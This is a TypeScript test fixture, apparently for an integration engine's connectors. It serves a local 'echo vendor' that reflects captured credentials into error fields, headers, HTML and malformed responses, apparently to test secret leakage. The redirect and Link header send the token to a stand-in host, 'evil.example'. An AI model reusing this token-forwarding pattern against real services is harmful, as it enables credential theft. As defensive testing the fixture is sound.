// A vendor at its worst: a server that sends back what it was sent, in every place where an answer could be read or logged.
import type { IncomingMessage, ServerResponse } from 'node:http'
import { createHttp, type Http } from '../../src/connectors/http.ts'
import { type Served, serve } from './served.ts'

type Echo = (heard: Heard, res: ServerResponse) => void

interface Heard {
  /** Header values, query values and the body, as they came. */
  all: string
  /** What looks most like the secret alone: the last word of the authorization, a key header, or a value of the form. */
  token: string
}

const json = (status: number, body: (heard: Heard) => unknown): Echo => {
  return (heard, res) =>
    res
      .writeHead(status, { 'content-type': 'application/json', ...headers(heard) })
      .end(JSON.stringify(body(heard)))
}
const page = (status: number): Echo => {
  return (heard, res) =>
    res.writeHead(status, { 'content-type': 'text/html' }).end(`<html><pre>${heard.all}</pre></html>`)
}

/** The headers that connectors and the engine read. */
function headers({ token }: Heard): Record<string, string> {
  const value = token.replaceAll(/[^\x20-\x7e]/g, '')
  return {
    'www-authenticate': `Bearer error="${value}"`,
    'x-oauth-scopes': value,
    'x-accepted-oauth-scopes': value,
    'x-accepted-github-permissions': value,
    'retry-after': value,
    link: `<https://evil.example/?token=${encodeURIComponent(value)}>; rel="next"`,
  }
}

/** The names under which vendors give an error, each with the token for a value. */
function flat({ token }: Heard) {
  const names =
    'error errorCode error_code code message msg detail details title type reason status errorSummary error_description scope needed required_scopes missing scimType kind'
  return Object.fromEntries(names.split(' ').map(name => [name, token]))
}

/** Words around the token, and the same one level down. */
function nested(heard: Heard) {
  const one = flat({ ...heard, token: heard.token })
  const sentence = `The token ${heard.token} is not valid (${heard.all})`
  return {
    ok: false,
    success: false,
    error: { ...one, message: sentence, errors: [one] },
    errors: [one],
    meta: one,
  }
}

/** Every way to misbehave, by name. */
export const echoes: Readonly<Record<string, Echo>> = {
  ...Object.fromEntries(
    [400, 401, 402, 403, 404, 422, 429, 500, 503].flatMap(status => [
      [`${status} in flat JSON`, json(status, flat)],
      [`${status} in nested JSON`, json(status, nested)],
      [`${status} as a page`, page(status)],
    ]),
  ),
  '200 as a page': page(200),
  '200 in flat JSON': json(200, flat),
  '200 in nested JSON': json(200, nested),
  '200 as a list of it': json(200, heard => [flat(heard), heard.token]),
  '200 as a text': json(200, heard => heard.all),
  '200 cut off': (heard, res) => res.writeHead(200).end(`{"token":"${heard.token}`),
  'a redirect': (heard, res) =>
    res.writeHead(302, { location: `https://evil.example/?token=${encodeURIComponent(heard.token)}` }).end(),
  'a reset': (_, res) => res.socket?.destroy(),
  'a reset in the body': (heard, res) => {
    res.writeHead(200, { 'content-length': '100000' }).write(heard.all, () => res.socket?.destroy())
  },
  'a broken packing': (heard, res) => res.writeHead(200, { 'content-encoding': 'gzip' }).end(heard.all),
  'no HTTP': (heard, res) => res.socket?.end(`NOPE ${heard.token}\r\n\r\n`),
}

export interface EchoVendor {
  /** The engine's client: every address leads to the echo. */
  http: Http
  /** What it answers as, from now on. */
  as: keyof typeof echoes
  readonly heard: number
  close(): Promise<void>
}

export async function serveEcho(): Promise<EchoVendor> {
  let heard = 0
  const served: Served = await serve(async (req, res) => {
    heard += 1
    echoes[vendor.as]?.(await hear(req), res)
  })
  const client = createHttp({ allowPrivateNetwork: true })
  const vendor = {
    as: '401 in flat JSON',
    get heard() {
      return heard
    },
    http: {
      request: (request: Parameters<Http['request']>[0]) => {
        const { pathname, search } = new URL(request.url)
        return client.request({ ...request, url: served.url + pathname + search })
      },
      close: () => client.close(),
    },
    async close() {
      await client.close()
      await served.close()
    },
  }
  return vendor
}

async function hear(req: IncomingMessage): Promise<Heard> {
  let body = ''
  for await (const chunk of req) body += chunk
  const query = [...new URL(req.url ?? '', 'http://x').searchParams.values()]
  const sent = Object.entries(req.headers).filter(
    ([name]) => !/^(host|accept|user-agent|content-|connection|sec-)/.test(name),
  )
  const form = [...new URLSearchParams(body)].filter(([key]) =>
    /secret|token|assertion|password|key/i.test(key),
  )
  const token =
    req.headers.authorization?.split(/\s+/).at(-1) ??
    sent.map(([, value]) => String(value))[0] ??
    form[0]?.[1] ??
    query.at(-1) ??
    ''
  const all = [...sent.map(([name, value]) => `${name}: ${value}`), req.url, ...query, body].join('\n')
  return { all, token: form[0]?.[1] ?? token }
}
